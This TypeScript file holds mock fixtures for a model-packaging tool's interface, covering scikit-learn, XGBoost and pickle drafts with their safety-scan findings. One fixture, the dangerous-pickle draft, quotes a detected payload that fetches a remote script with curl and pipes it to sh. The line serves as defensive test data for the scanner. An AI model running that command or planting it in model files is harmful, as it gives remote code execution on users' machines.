import type { ColumnView } from '$lib/ipc/generated/ColumnView';
import type { DraftView } from '$lib/ipc/generated/DraftView';
import type { FindingView } from '$lib/ipc/generated/FindingView';
import type { RequirementView } from '$lib/ipc/generated/RequirementView';
import type { StructureView } from '$lib/ipc/generated/StructureView';
import type { MetadataView } from '$lib/ipc/generated/MetadataView';

const HOUR = 3_600_000;

/** A column as the engine reports it. */
function column(name: string | null, type: string, source: string): ColumnView {
	return { name, type, shape: null, required: true, default: null, source, edited: false, advice: [] };
}

function requirement(line: string, source: string): RequirementView {
	return { requirement: line, source, edited: false, notes: [] };
}

function known(what: string, byte: number): FindingView {
	return {
		rule: 'pickle/known-class',
		key: `pickle/known-class ${what}`,
		severity: 'info',
		library: what.startsWith('numpy') ? 'numpy' : 'scikit-learn',
		accepted: null,
		what,
		place: `byte ${byte}`,
		why: `a class of ${what.split('.')[0] ?? what} that the framework itself writes`,
	};
}

const CARD: [field: string, label: string, choices: string[]][] = [
	['version', 'Version', []],
	['license', 'Licence', ['Apache-2.0', 'MIT']],
	['task', 'Task', ['tabular-classification', 'tabular-regression']],
	['authors', 'Authors', []],
	['intendedUse', 'Intended use', []],
	['limitations', 'Limits', []],
	['trainingData', 'Training data', []],
	['metrics', 'Metrics', []],
	['links', 'Links', []],
];

/** A form with nothing in it. */
function emptyCard(): MetadataView {
	const entry = (field: string, label: string) => ({ field, label, isGiven: false });
	return {
		fields: CARD.map(([field, label, choices]) => ({ field, label, text: '', choices })),
		completeness: [
			entry('description', 'Description'),
			...CARD.filter(([field]) => field !== 'links').map(([field, label]) => entry(field, label)),
		],
		descriptionNote: null,
		kept: [],
	};
}

/** A scikit-learn pipeline on seven columns: everything known but one thing. */
export function pipelineDraft(id = 'pipeline'): DraftView {
	const fromNames = 'feature_names_in_';
	return {
		id,
		name: { text: 'churn_pipeline', source: 'file name' },
		description: '',
		tags: [],
		metadata: emptyCard(),
		fileName: 'churn_pipeline.joblib',
		path: '/home/ada/models/churn_pipeline.joblib',
		sizeBytes: 1_482_113,
		openedAtMillis: Date.now() - 60_000,
		format: 'joblib (gzip)',
		framework: { text: 'scikit-learn', source: 'class path' },
		frameworkVersion: { text: '1.9.1', source: '_sklearn_version' },
		modelClass: { text: 'sklearn.pipeline.Pipeline', source: 'pickle at byte 2' },
		flavor: 'sklearn',
		servingNote: 'Rewritten as a plain pickle, because MLflow cannot load joblib files.',
		facts: [
			{ name: 'n_features', label: 'Features', value: '7', source: 'n_features_in_' },
			{ name: 'class_labels', label: 'Class labels', value: 'stay, leave', source: 'classes_' },
			{ name: 'class_dtype', label: 'Label type', value: 'string', source: 'classes_' },
			{ name: 'output_kind', label: 'Output', value: 'labels', source: 'RandomForestClassifier' },
			{ name: 'n_estimators', label: 'Trees', value: '200', source: 'n_estimators' },
		],
		hasStructure: true,
		signature: {
			inputs: {
				kind: 'columns',
				edited: false,
				columns: [
					column('age', 'double', fromNames),
					column('tenure_months', 'double', fromNames),
					column('monthly_fee', 'double', fromNames),
					column('support_calls', 'double', fromNames),
					column('plan', 'string', 'categories_ of prepare.words'),
					column('region', 'string', 'categories_ of prepare.words'),
					column('payment_method', 'string', 'categories_ of prepare.words'),
				],
			},
			outputs: {
				kind: 'tensors',
				edited: false,
				columns: [{ ...column(null, 'str', 'classes_'), shape: '[-1]' }],
			},
			params: [],
		},
		requirements: [
			requirement('mlflow==3.17.2', 'loads the package'),
			requirement('scikit-learn==1.9.1', '_sklearn_version'),
			requirement('numpy', 'imported by the pickle'),
			requirement('pandas', 'columns are passed by name'),
		],
		areRequirementsEdited: false,
		python: { text: '3.11', source: 'assumed: newest Python that scikit-learn 1.9.1 supports' },
		models: [],
		modules: [],
		code: [],
		architecture: null,
		wantsNetwork: false,
		sample: null,
		example: null,
		types: [],
		tensors: null,
		safety: {
			verdict: 'safe',
			summary: 'Loading it creates 14 classes of scikit-learn and numpy, and runs no other code.',
			unread: [],
			isReviewed: false,
			findings: [
				known('sklearn.pipeline.Pipeline', 2),
				known('sklearn.compose._column_transformer.ColumnTransformer', 118),
				known('sklearn.preprocessing._data.StandardScaler', 264),
				known('sklearn.preprocessing._encoders.OneHotEncoder', 1_730),
				known('sklearn.ensemble._forest.RandomForestClassifier', 3_912),
				known('numpy._core.multiarray._reconstruct', 412),
			],
		},
		decisions: [],
		warnings: [],
		files: [
			{
				path: 'MLmodel',
				origin: 'generated',
				sizeBytes: 1_204,
				text: 'flavors:\n  python_function:\n    env:\n      conda: conda.yaml\n      virtualenv: python_env.yaml\n    loader_module: mlflow.sklearn\n    model_path: model.pkl\n    predict_fn: predict\n    python_version: "3.11"\n  sklearn:\n    pickled_model: model.pkl\n    serialization_format: cloudpickle\n    sklearn_version: 1.9.1\n',
				code: null,
			},
			{
				path: 'conda.yaml',
				origin: 'generated',
				sizeBytes: 178,
				text: 'channels:\n- conda-forge\ndependencies:\n- python=3.11\n- pip\n- pip:\n  - mlflow==3.17.2\n  - scikit-learn==1.9.1\n  - numpy\n  - pandas\nname: mlflow-env\n',
				code: null,
			},
			{ path: 'model.pkl', origin: 'rewritten', sizeBytes: 4_914_820, text: null, code: null },
			{
				path: 'python_env.yaml',
				origin: 'generated',
				sizeBytes: 96,
				text: 'python: "3.11"\nbuild_dependencies:\n- pip\n- setuptools\n- wheel\ndependencies:\n- -r requirements.txt\n',
				code: null,
			},
			{
				path: 'requirements.txt',
				origin: 'generated',
				sizeBytes: 53,
				text: 'mlflow==3.17.2\nscikit-learn==1.9.1\nnumpy\npandas\n',
				code: null,
			},
		],
		exportBlocked: null,
		undo: null,
		redo: null,
	};
}

/** An XGBoost booster: only the count of its inputs is known, nothing of its outputs. */
export function boosterDraft(id = 'booster'): DraftView {
	return {
		...pipelineDraft(id),
		name: { text: 'fraud_xgb', source: 'file name' },
		fileName: 'fraud_xgb.ubj',
		path: '/home/ada/models/fraud_xgb.ubj',
		sizeBytes: 212_992,
		openedAtMillis: Date.now() - 5 * 60_000,
		format: 'XGBoost UBJSON',
		framework: { text: 'xgboost', source: 'file format' },
		frameworkVersion: { text: '3.2.0', source: 'version' },
		modelClass: { text: 'xgboost.core.Booster', source: 'file format' },
		flavor: 'xgboost',
		servingNote: 'Copied as it is.',
		facts: [
			{ name: 'n_features', label: 'Features', value: '12', source: 'learner_model_param.num_feature' },
			{ name: 'objective', label: 'Objective', value: 'binary:logistic', source: 'learner.objective.name' },
			{ name: 'n_trees', label: 'Trees', value: '350', source: 'gbtree_model_param.num_trees' },
		],
		hasStructure: false,
		signature: {
			inputs: {
				kind: 'tensors',
				edited: false,
				columns: [{ ...column(null, 'float32', 'learner_model_param.num_feature'), shape: '[-1, 12]' }],
			},
			outputs: { kind: 'unknown', columns: [], edited: false },
			params: [],
		},
		requirements: [
			requirement('mlflow==3.17.2', 'loads the package'),
			requirement('xgboost==3.2.0', 'version'),
		],
		areRequirementsEdited: false,
		python: { text: '3.12', source: 'assumed: newest Python that xgboost 3.2.0 supports' },
		safety: {
			verdict: 'safe',
			summary: 'The file is data only. Loading it runs no code.',
			unread: [],
			isReviewed: false,
			findings: [],
		},
		decisions: [{ id: 'outputs', text: 'What comes out is not recorded in the file', section: 'signature' }],
		warnings: [
			'The model was saved without feature names: callers must send the 12 columns in training order.',
		],
		files: [
			{
				path: 'MLmodel',
				origin: 'generated',
				sizeBytes: 812,
				text: 'flavors:\n  xgboost:\n    data: model.ubj\n',
				code: null,
			},
			{ path: 'model.ubj', origin: 'copied', sizeBytes: 212_992, text: null, code: null },
			{
				path: 'requirements.txt',
				origin: 'generated',
				sizeBytes: 30,
				text: 'mlflow==3.17.2\nxgboost==3.2.0\n',
				code: null,
			},
		],
	};
}

/** A pickle that runs a shell command when it is loaded. */
export function dangerousDraft(id = 'dangerous'): DraftView {
	return {
		...pipelineDraft(id),
		name: { text: 'downloaded_model', source: 'file name' },
		fileName: 'downloaded_model.pkl',
		path: '/home/ada/Downloads/downloaded_model.pkl',
		sizeBytes: 3_204,
		openedAtMillis: Date.now() - 2 * HOUR,
		format: 'pickle (protocol 4)',
		modelClass: { text: 'sklearn.linear_model._logistic.LogisticRegression', source: 'pickle at byte 311' },
		servingNote: 'Copied as it is.',
		hasStructure: false,
		safety: {
			verdict: 'dangerous',
			summary: 'Loading it runs a shell command: curl -s http://203.0.113.7/a.sh | sh',
			unread: [],
			isReviewed: false,
			findings: [
				{
					rule: 'pickle/dangerous-call',
					key: 'pickle/dangerous-call',
					severity: 'dangerous',
					library: '',
					accepted: null,
					what: 'posix.system("curl -s http://203.0.113.7/a.sh | sh")',
					place: 'byte 27',
					why: 'runs a command with the rights of whoever loads the model',
				},
				known('sklearn.linear_model._logistic.LogisticRegression', 311),
			],
		},
		warnings: [],
	};
}

/** A pickle that could only be read in part. */
export function unscannedDraft(id = 'unscanned'): DraftView {
	return {
		...pipelineDraft(id),
		name: { text: 'wrapped_estimator', source: 'file name' },
		fileName: 'wrapped_estimator.pkl',
		path: '/home/ada/models/wrapped_estimator.pkl',
		sizeBytes: 88_410,
		openedAtMillis: Date.now() - 3 * HOUR,
		format: 'pickle (protocol 5)',
		safety: {
			verdict: 'unscanned',
			summary: 'Not read to its end: what the rest would do is not known.',
			unread: ['The bytes from 61 204 on are a nested stream in a format that Packwright does not read.'],
			isReviewed: false,
			findings: [
				{
					rule: 'pickle/unread',
					key: 'pickle/unread',
					severity: 'unscanned',
					library: '',
					accepted: null,
					what: 'nested stream',
					place: 'byte 61204',
					why: 'code in it could not be listed',
				},
				{
					rule: 'pickle/unknown-class',
					key: 'pickle/unknown-class',
					severity: 'review',
					library: '',
					accepted: null,
					what: 'acme_ml.wrappers.CalibratedThing',
					place: 'byte 44',
					why: 'a module that is not part of any known library',
				},
				known('sklearn.calibration.CalibratedClassifierCV', 730),
			],
		},
		exportBlocked: null,
		decisions: [
			{
				id: 'module',
				text: 'The module acme_ml must be installed where the model is loaded',
				section: 'environment',
			},
		],
	};
}

/** Five hundred columns, a long name and text from right to left. */
export function wideDraft(id = 'wide'): DraftView {
	const name =
		'sensor_readings_of_the_whole_northern_plant_2019_to_2026_retrained_after_recalibration_v17_final';
	const columns = Array.from({ length: 500 }, (_, index) =>
		column(
			index === 3 ? 'درجة_الحرارة' : `sensor_${String(index).padStart(3, '0')}`,
			'double',
			'feature_names_in_',
		),
	);
	return {
		...pipelineDraft(id),
		name: { text: name, source: 'file name' },
		fileName: `${name}.pkl`,
		path: `/home/ada/models/${name}.pkl`,
		sizeBytes: 1_610_612_736,
		openedAtMillis: Date.now() - 30 * HOUR,
		format: 'pickle (protocol 5)',
		modelClass: { text: 'sklearn.ensemble._forest.RandomForestRegressor', source: 'pickle at byte 2' },
		signature: {
			inputs: { kind: 'columns', columns, edited: false },
			outputs: {
				kind: 'tensors',
				edited: false,
				columns: [{ ...column(null, 'float64', 'n_outputs_'), shape: '[-1]' }],
			},
			params: [],
		},
	};
}

/** A file with two models that needs code of the person's own and types that skops asks about. */
export function ownCodeDraft(id = 'code'): DraftView {
	return {
		...pipelineDraft(id),
		name: { text: 'price_bundle', source: 'file name' },
		fileName: 'price_bundle.pkl',
		path: '/home/ada/models/price_bundle.pkl',
		models: [
			{ path: '["model"]', class: 'Pipeline', isChosen: true },
			{ path: '["scaler"]', class: 'StandardScaler', isChosen: false },
		],
		modules: [
			{ module: 'shop.features', names: ['Ratio'], found: null, undefined: [] },
			{ module: '__main__', names: ['clip', 'Share'], found: 'code/train.py', undefined: ['Share'] },
		],
		types: [{ name: 'shop.features.Ratio', isTrusted: false, why: 'on no known list' }],
		safety: {
			verdict: 'review',
			summary: 'loading needs code that is on no known list: shop.features.Ratio, __main__.Share',
			unread: [],
			isReviewed: false,
			findings: ['shop.features.Ratio', '__main__.Share'].map((what) => ({
				rule: 'pickle/unknown-name',
				key: `pickle/unknown-name ${what}`,
				severity: 'review',
				library: '',
				accepted: null,
				what,
				place: 'byte 44',
				why: 'code of a module that belongs to no library that Packwright knows',
			})),
		},
		decisions: [
			{ id: 'code-missing', text: 'The model imports Ratio from shop.features', section: 'environment' },
		],
	};
}

/** What the pipeline is made of. */
export function pipelineStructure(): StructureView {
	const row = (depth: number, name: string, path: string, detail: string | null = null) => ({
		depth,
		name,
		class: path.split('.').at(-1) ?? path,
		path,
		detail,
		output: null,
		nParameters: null,
		sizeBytes: null,
		hidden: 0,
	});
	return {
		kind: 'steps',
		rows: [
			row(0, '', 'sklearn.pipeline.Pipeline'),
			row(1, 'prepare', 'sklearn.compose._column_transformer.ColumnTransformer'),
			row(2, 'numbers', 'sklearn.preprocessing._data.StandardScaler', 'age, tenure_months'),
			row(2, 'words', 'sklearn.preprocessing._encoders.OneHotEncoder', 'plan, region'),
			row(1, 'model', 'sklearn.ensemble._forest.RandomForestClassifier', '200 trees'),
		],
		hidden: 0,
	};
}

/** A package with generated code that can be edited. */
export function generatedCodeDraft(id = 'generated'): DraftView {
	const draft = pipelineDraft(id);
	const text = 'import joblib\n\n\ndef _load_pyfunc(path):\n    return joblib.load(path)\n';
	const code = { file: 'loader.py', generated: text, edited: false, outdated: false, problem: null };
	const file = {
		path: 'code/mlpack_1a2b3c4d_loader.py',
		origin: 'generated',
		sizeBytes: text.length,
		text,
		code,
	};
	return { ...draft, files: [file, ...draft.files] };
}
